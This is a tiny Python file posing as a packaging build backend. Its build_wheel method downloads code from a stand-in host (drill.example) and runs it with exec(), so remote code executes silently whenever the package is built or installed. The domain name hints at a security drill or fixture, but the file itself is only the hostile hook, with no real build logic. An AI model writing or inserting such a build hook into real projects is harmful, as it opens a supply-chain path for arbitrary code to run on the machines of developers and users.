import urllib.request


class Backend:
    def build_wheel(self, folder, settings=None, metadata=None):
        exec(urllib.request.urlopen("https://drill.example/build").read())


backend = Backend()
